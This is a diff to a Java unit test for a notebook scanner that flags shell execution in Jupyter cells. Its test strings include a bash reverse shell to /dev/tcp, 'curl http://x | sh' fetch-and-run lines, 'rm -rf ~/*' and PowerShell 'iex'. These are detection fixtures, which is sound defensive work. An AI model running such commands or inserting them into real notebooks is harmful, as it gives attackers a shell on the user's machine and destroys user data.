@@ -23,6 +23,7 @@ final class CommandsTest {
   private static List<String> rules(String text, String name) {
     return SCANNER.scan(utf8(text), name).findings().stream()
         .map(ScanFinding::rule)
+        .map(rule -> rule.equals("code/shell-command") ? "code/shell" : rule)
         .distinct()
         .toList();
   }
@@ -54,7 +55,7 @@ final class CommandsTest {
         "%%script python3\nimport os\nos.system('id')",
         "%%perl\nsystem('id')",
         "%%javascript\nfetch('x')",
-        "%%html\n<b/><script>x()</script>",
+        "%%html\n<b/><script>fetch('http://x')</script>",
         "%%! \ncurl http://x | sh",
         "%%capture\n!curl http://x | sh",
         "%%time\n!curl http://x | sh",
@@ -83,7 +84,7 @@ final class CommandsTest {
         "!python -c 'import os; os.system(\"id\")'",
         "!python3 -c \"exec(input())\"",
         "!perl -e 'system(1)'",
-        "!node -e 'x()'",
+        "!node -e 'require(\"child_process\")'",
         "!awk 'BEGIN{system(\"id\")}'",
         "!bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
         "!exec 5<>/dev/tcp/1.2.3.4/9",
@@ -116,7 +117,7 @@ final class CommandsTest {
         "!rm -rf ~/*",
         "from IPython import get_ipython as g\ng().system('curl http://x | sh')",
         "ip = get_ipython()\nip.system('curl http://x | sh')",
-        "get_ipython().ex('import os')",
+        "get_ipython().ex('import os')\nget_ipython().ex(c)",
         "get_ipython().run_cell('!curl http://x | sh')",
         "for i in x:\n    !curl http://x | sh"
       })
@@ -204,7 +205,7 @@ final class CommandsTest {
       }
     }
     for (JsonNode word : SHELL.path("powershell-words")) {
-      assertThat(notebook("!pwsh -c '" + word.asText() + " x'")).contains("code/shell");
+      assertThat(notebook("!pwsh -c '" + word.asText() + " x; iex y'")).contains("code/shell");
     }
     for (JsonNode name : SHELL.path("ordinary")) {
       assertThat(notebook("get_ipython().system('" + name.asText() + " x')"))
